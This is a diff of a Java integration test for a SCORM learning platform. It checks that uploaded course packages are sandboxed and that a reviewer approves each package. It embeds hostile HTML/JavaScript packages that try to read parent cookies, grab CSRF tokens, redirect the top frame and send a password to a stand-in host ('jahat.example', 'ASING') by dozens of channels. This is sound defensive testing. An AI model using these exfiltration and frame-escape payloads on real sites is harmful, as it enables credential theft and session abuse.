@@ -11,10 +11,13 @@ import id.netral.scorm.TestPackage;
 import id.netral.security.Role;
 import java.nio.file.Path;
 import java.util.List;
+import java.util.concurrent.CopyOnWriteArrayList;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.jdbc.core.simple.JdbcClient;
@@ -24,58 +27,126 @@ import org.springframework.jdbc.core.simple.JdbcClient;
 class ScormIT {
 
     private static final String TRAINER = "198001012005011001";
+    private static final String REVIEWER = "197501012000031003";
     private static final String LEARNER = "199001012015012002";
 
     /** Tries what it must not be able to, and writes down what became of it. */
     private static final String HOSTILE = """
-            <!DOCTYPE html>
-            <html lang="id"><head><meta charset="utf-8"><title>Jahat</title></head><body><h1>Jahat</h1><ul id="hasil"></ul>
-            <script>
-            const list = document.getElementById('hasil');
-            const note = (what, outcome) => {
-              const item = document.createElement('li');
-              item.textContent = what + ': ' + outcome;
-              list.append(item);
-            };
-            const attempt = (what, work) => {
-              try { const got = work(); note(what, got === undefined ? 'ditahan' : 'LOLOS ' + got); }
-              catch (e) { note(what, 'ditahan'); }
-            };
-            attempt('kuki induk', () => window.top.document.cookie);
-            attempt('isi induk', () => window.top.document.body.innerHTML);
-            attempt('kuki sendiri', () => document.cookie + '|');
-            attempt('simpanan', () => window.top.localStorage.length);
-            attempt('alamat induk', () => window.top.location.href);
-            attempt('jendela baru', () => window.open('/profil') || undefined);
-            attempt('pindah induk', () => { window.top.location = '/profil'; return undefined; });
-            const ask = async (what, url, options) => {
-              try {
-                const response = await fetch(url, options);
-                note(what, 'LOLOS ' + response.type + response.status);
-              } catch (e) { note(what, 'ditahan'); }
-            };
-            const origin = new URL(document.querySelector('script').src).origin;
-            const form = document.createElement('form');
-            form.method = 'post'; form.action = origin + '/keluar'; form.target = '_top';
-            document.body.append(form);
-            (async () => {
-              await ask('token csrf', origin + '/api/csrf', { credentials: 'include' });
-              await ask('tanpa cors', origin + '/api/csrf', { credentials: 'include', mode: 'no-cors' });
-              await ask('simpan hasil', origin + '/api/scorm/1', { method: 'PUT', body: '{}', credentials: 'include' });
-              await ask('ke luar', 'https://jahat.example/?data=1', { mode: 'no-cors' });
-              const beacon = new Image();
-              beacon.onload = () => note('gambar', 'LOLOS');
-              beacon.onerror = () => note('gambar', 'ditahan');
-              beacon.src = origin + '/icons/netral.svg';
-              try { form.submit(); } catch (e) { /* held back */ }
-              for (const target of [window.top, window.parent]) {
-                target.postMessage({ mark: 'netral-scorm', kind: 'finish', seq: 'x', values: {} }, '*');
-                target.postMessage({ mark: 'netral-scorm', kind: '<img src=x onerror=alert(1)>', seq: 1 }, '*');
-              }
-              setTimeout(() => note('akhir', 'selesai'), 500);
-            })();
-            </script></body></html>
-            """;
+        <!DOCTYPE html>
+        <html lang="id"><head><meta charset="utf-8"><title>Jahat</title></head><body><h1>Jahat</h1><ul id="hasil"></ul>
+        <script>
+        const list = document.getElementById('hasil');
+        const note = (what, outcome) => {
+          const item = document.createElement('li');
+          item.textContent = what + ': ' + outcome;
+          list.append(item);
+        };
+        const attempt = (what, work) => {
+          try { const got = work(); note(what, got === undefined ? 'ditahan' : 'LOLOS ' + got); }
+          catch (e) { note(what, 'ditahan'); }
+        };
+        attempt('kuki induk', () => window.top.document.cookie);
+        attempt('isi induk', () => window.top.document.body.innerHTML);
+        attempt('kuki sendiri', () => document.cookie + '|');
+        attempt('simpanan', () => window.top.localStorage.length);
+        attempt('alamat induk', () => window.top.location.href);
+        attempt('jendela baru', () => window.open('/profil') || undefined);
+        attempt('pindah induk', () => { window.top.location = '/profil'; return undefined; });
+        const ask = async (what, url, options) => {
+          try {
+            const response = await fetch(url, options);
+            note(what, 'LOLOS ' + response.type + response.status);
+          } catch (e) { note(what, 'ditahan'); }
+        };
+        const origin = new URL(document.querySelector('script').src).origin;
+        const form = document.createElement('form');
+        form.method = 'post'; form.action = origin + '/keluar'; form.target = '_top';
+        document.body.append(form);
+        (async () => {
+          await ask('token csrf', origin + '/api/csrf', { credentials: 'include' });
+          await ask('tanpa cors', origin + '/api/csrf', { credentials: 'include', mode: 'no-cors' });
+          await ask('simpan hasil', origin + '/api/scorm/1', { method: 'PUT', body: '{}', credentials: 'include' });
+          await ask('ke luar', 'https://jahat.example/?data=1', { mode: 'no-cors' });
+          const beacon = new Image();
+          beacon.onload = () => note('gambar', 'LOLOS');
+          beacon.onerror = () => note('gambar', 'ditahan');
+          beacon.src = origin + '/icons/netral.svg';
+          try { form.submit(); } catch (e) { /* held back */ }
+          for (const target of [window.top, window.parent]) {
+            target.postMessage({ mark: 'netral-scorm', kind: 'finish', seq: 'x', values: {} }, '*');
+            target.postMessage({ mark: 'netral-scorm', kind: '<img src=x onerror=alert(1)>', seq: 1 }, '*');
+          }
+          setTimeout(() => note('akhir', 'selesai'), 500);
+        })();
+        </script></body></html>
+        """;
+
+    /** Tries to carry something to a stranger without leaving its place; says when it is through. */
+    private static final String CARRYING = """
+        <!DOCTYPE html>
+        <html lang="id"><head><meta charset="utf-8"><title>Jahat</title>
+        <link rel="prefetch" href="ASING/?prefetch"><link rel="preconnect" href="ASING">
+        <link rel="stylesheet" href="ASING/?gaya"></head><body>
+        <form id="pancing" method="post" action="ASING/?formulir">
+        <input name="sandi" type="password" value="rahasia"></form>
+        <ol id="hasil"></ol>
+        <script>
+        const tries = {
+          formulir: () => pancing.submit(),
+          'formulir dengan tombol': () => pancing.requestSubmit(),
+          'formulir ambil': () => { pancing.method = 'get'; pancing.submit(); },
+          'formulir ke atas': () => { pancing.target = '_top'; pancing.submit(); },
+          'formulir ke jendela baru': () => { pancing.target = '_blank'; pancing.submit(); },
+          'tautan ke atas': () => link('_top'),
+          'tautan ke induk': () => link('_parent'),
+          'tautan ke jendela baru': () => link('_blank'),
+          ping: () => { const a = document.createElement('a'); a.href = '#'; a.ping = 'ASING/?ping'; a.click(); },
+          'pindah atas': () => { window.top.location.href = 'ASING/?atas'; },
+          'ganti atas': () => { window.top.location.replace('ASING/?ganti'); },
+          'jendela baru': () => { window.open('ASING/?jendela'); },
+          bingkai: () => frame((one) => { one.src = 'ASING/?bingkai'; }),
+          'bingkai kosong': () => frame((one) => { one.contentWindow.location = 'ASING/?kosong'; }),
+          'bingkai dengan isi': () => frame((one) => {
+            one.srcdoc = '<meta http-equiv=refresh content="0;url=ASING/?isi">';
+          }),
+          'bingkai data': () => frame((one) => {
+            one.src = 'data:text/html,<script>location="ASING/?data"<' + '/script>';
+          }),
+          objek: () => { const one = document.createElement('object'); one.data = 'ASING/?objek'; document.body.append(one); },
+          suar: () => navigator.sendBeacon('ASING/?suar', 'rahasia'),
+          ambil: () => fetch('ASING/?ambil', { mode: 'no-cors' }).catch(() => {}),
+          gambar: () => { new Image().src = 'ASING/?gambar'; },
+          soket: () => new WebSocket('ASING/?soket'.replace('http', 'ws')),
+          siaran: () => new EventSource('ASING/?siaran'),
+          pekerja: () => new Worker('ASING/?pekerja'),
+          skrip: () => { const one = document.createElement('script'); one.src = 'ASING/?skrip'; document.head.append(one); },
+          latar: () => { document.body.style.backgroundImage = 'url(ASING/?latar)'; },
+          layar: () => document.documentElement.requestFullscreen().catch(() => {}),
+        };
+        function link(target) {
+          const a = document.createElement('a');
+          a.href = 'ASING/?tautan'; a.target = target; document.body.append(a); a.click();
+        }
+        function frame(work) {
+          const one = document.createElement('iframe');
+          document.body.append(one); work(one);
+        }
+        (async () => {
+          for (const [name, work] of Object.entries(tries)) {
+            try { work(); } catch (e) { /* held back */ }
+            await new Promise((next) => setTimeout(next, 60));
+            hasil.insertAdjacentHTML('beforeend', `<li>${name}</li>`);
+          }
+          await new Promise((next) => setTimeout(next, 500));
+          const api = window.API;
+          api.LMSInitialize('');
+          api.LMSSetValue('cmi.core.lesson_location', document.fullscreenElement ? 'LOLOS' : 'tetap');
+          api.LMSCommit('');
+          document.title = 'selesai';
+          hasil.insertAdjacentHTML('beforeend', '<li>selesai</li>');
+        })();
+        </script></body></html>
+        """;
 
     @LocalServerPort
     int port;
@@ -97,6 +168,7 @@ class ScormIT {
         remove();
         database.reset();
         cast.person(TRAINER, "Tri Contoh", "Dinas Teladan", Role.PELATIH);
+        cast.person(REVIEWER, "Rudi Contoh", "Dinas Teladan", Role.PENINJAU);
         cast.person(LEARNER, "Lia Contoh", "Dinas Teladan");
     }
 
@@ -169,7 +241,84 @@ class ScormIT {
     }
 
     @Test
-    void theKeyAloneOpensAPageThatHasNoOrigin() {
+    void aHostilePackageCarriesNothingToAStranger() throws Exception {
+        try (var stranger = new Stranger()) {
+            bringIn(TestPackage.lesson().with("isi/index.html", CARRYING.replace("ASING", stranger.address())));
+            try (var learner = new Visitor(Browsers.desktop(), port)) {
+                learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
+                learner.link("Paket uji").click();
+                assertThat(part(learner).locator("#hasil")).containsText("selesai");
+                learner.sees("Tersimpan.");
+                assertThat(learner.page().url()).contains("/paket/");
+                assertThat(learner.page().context().pages()).hasSize(1);
+            }
+            assertThat(stranger.asked()).as("what reached the stranger").isEmpty();
+        }
+        assertThat(jdbc.sql("SELECT state FROM scorm_attempt")
+                        .query(String.class)
+                        .single())
+                .contains("tetap");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "location.href = 'ASING/?alamat'",
+                "location.replace('ASING/?ganti')",
+                "const a = document.createElement('a'); a.href = 'ASING/?tautan'; document.body.append(a); a.click()",
+                "document.body.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh"
+                        + " content=\"0;url=ASING/?segar\">')",
+                "document.open(); document.write('<script>location=\"ASING/?tulis\"<' + '/script>'); document.close()",
+                "location.href = 'data:text/html,<script>location=\"ASING/?data\"<' + '/script>'",
+                "location.href = URL.createObjectURL(new Blob(['<script>location=\"ASING/?gumpal\"<' + '/script>'],"
+                        + " { type: 'text/html' }))",
+                "location.href = new URL(document.querySelector('script').src).origin + '/masuk'",
+            })
+    void aHostilePackageCannotLeadItsFrameAway(String script) throws Exception {
+        try (var stranger = new Stranger()) {
+            var page = "<!DOCTYPE html><html><head></head><body><h1>Jahat</h1><script>setTimeout(() => {"
+                    + script.replace("ASING", stranger.address()) + "}, 300)</script></body></html>";
+            bringIn(TestPackage.lesson().with("isi/index.html", page));
+            try (var learner = new Visitor(Browsers.desktop(), port)) {
+                var refused = new CopyOnWriteArrayList<String>();
+                learner.page().onConsoleMessage(said -> {
+                    if (said.text().contains("Content Security Policy")) {
+                        refused.add(said.text());
+                    }
+                });
+                learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
+                learner.link("Paket uji").click();
+                learner.page()
+                        .waitForCondition(
+                                () -> !refused.isEmpty() || !stranger.asked().isEmpty());
+                learner.settle();
+                assertThat(stranger.asked()).as("what reached the stranger").isEmpty();
+                assertThat(learner.page().frames())
+                        .as("what is shown in a frame")
+                        .noneMatch(frame -> frame != learner.page().mainFrame()
+                                && frame.url().contains("/masuk"));
+                assertThat(learner.page().url()).contains("/paket/");
+            }
+        }
+    }
+
+    /** At the agency's own address a page of a stranger could pass for the agency's sign-in. */
+    @Test
+    void aPageOfAPackageIsNoPageOfOurAddress() {
+        bringIn(TestPackage.lesson());
+        try (var learner = new Visitor(Browsers.desktop(), port)) {
+            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
+            learner.link("Paket uji").click();
+            assertThat(part(learner).locator("#masuk")).hasText("ab-initio");
+            var address = learner.page().frames().getLast().url();
+            var answer = learner.page().navigate(address);
+            assertThat(answer.status()).isEqualTo(403);
+            assertThat(learner.page().locator("#masuk")).hasCount(0);
+        }
+    }
+
+    @Test
+    void aPageOfAPackageHasNoOrigin() {
         bringIn(TestPackage.lesson()
                 .with(
                         "isi/index.html",
@@ -180,9 +329,6 @@ class ScormIT {
             learner.link("Paket uji").click();
             var part = part(learner);
             assertThat(part.locator("#asal")).hasText("null");
-            var address = learner.page().frames().getLast().url();
-            learner.page().navigate(address);
-            assertThat(learner.page().locator("#asal")).hasText("null");
         }
     }
 
@@ -195,27 +341,28 @@ class ScormIT {
             assertThat(part(learner).locator("#masuk")).hasText("ab-initio");
             var frame = learner.page().frames().getLast();
             var heard = frame.evaluate("""
-                    () => {
-                      const api = window.API;
-                      const heard = [];
-                      const hear = (result) => heard.push(result + ' ' + api.LMSGetLastError());
-                      hear(api.LMSInitialize(''));
-                      hear(api.LMSGetValue('cmi.core._children').includes('lesson_status'));
-                      hear(api.LMSGetValue('cmi.core.exit'));
-                      hear(api.LMSSetValue('cmi.core.student_id', 'x'));
-                      hear(api.LMSSetValue('cmi.core._children', 'x'));
-                      hear(api.LMSSetValue('cmi.core.lesson_status', 'menang'));
-                      hear(api.LMSSetValue('cmi.core.score.raw', '101'));
-                      hear(api.LMSGetValue('cmi.tidak.ada'));
-                      hear(api.LMSGetValue('cmi.interactions._count'));
-                      hear(api.LMSSetValue('cmi.interactions.0.id', 'soal-1'));
-                      hear(api.LMSGetValue('cmi.interactions._count'));
-                      hear(api.LMSSetValue('cmi.interactions.5.id', 'soal-6'));
-                      hear(api.LMSFinish(''));
-                      hear(api.LMSGetValue('cmi.core.lesson_status'));
-                      heard.push(api.LMSGetErrorString('301'));
-                      return heard;
-                    }""");
+                () => {
+                  const api = window.API;
+                  const heard = [];
+                  const hear = (result) => heard.push(result + ' ' + api.LMSGetLastError());
+                  hear(api.LMSInitialize(''));
+                  hear(api.LMSGetValue('cmi.core._children').includes('lesson_status'));
+                  hear(api.LMSGetValue('cmi.core.exit'));
+                  hear(api.LMSSetValue('cmi.core.student_id', 'x'));
+                  hear(api.LMSSetValue('cmi.core._children', 'x'));
+                  hear(api.LMSSetValue('cmi.core.lesson_status', 'menang'));
+                  hear(api.LMSSetValue('cmi.core.score.raw', '101'));
+                  hear(api.LMSGetValue('cmi.tidak.ada'));
+                  hear(api.LMSGetValue('cmi.interactions._count'));
+                  hear(api.LMSSetValue('cmi.interactions.0.id', 'soal-1'));
+                  hear(api.LMSGetValue('cmi.interactions._count'));
+                  hear(api.LMSSetValue('cmi.interactions.5.id', 'soal-6'));
+                  hear(api.LMSFinish(''));
+                  hear(api.LMSGetValue('cmi.core.lesson_status'));
+                  heard.push(api.LMSGetErrorString('301'));
+                  return heard;
+                }\
+                """);
             assertThat(heard)
                     .isEqualTo(List.of(
                             "false 101",
@@ -242,12 +389,23 @@ class ScormIT {
             var module = trainer.page().getByLabel("Modul").first();
             module.fill("Aurat");
             trainer.page().locator("vaadin-combo-box-item").first().click();
+            trainer.page().getByText("Paket saja").click();
             trainer.settle();
             var file = trainer.page().locator("input[type=file]").first();
             file.setInputFiles(files.in(folder));
             trainer.sees("Paket tersimpan");
-            assertThat(trainer.page().getByText("Dapat dibuka")).isVisible();
+            assertThat(trainer.page().getByText("Menunggu tinjauan")).isVisible();
             Look.at(trainer, "scorm-packages");
+        }
+        try (var reviewer = new Visitor(Browsers.desktop(), port)) {
+            reviewer.signIn(REVIEWER, Cast.PASSWORD).open("paket-scorm");
+            reviewer.link("Tinjau paket Paket uji").click();
+            reviewer.sees("menurut laporan paket itu sendiri");
+            assertThat(reviewer.page().locator("scorm-player iframe")).isVisible();
+            Look.at(reviewer, "scorm-review");
+            reviewer.button("Setujui").click();
+            reviewer.sees("Paket disetujui");
+            assertThat(reviewer.page().getByText("Dapat dibuka")).isVisible();
         }
     }
 
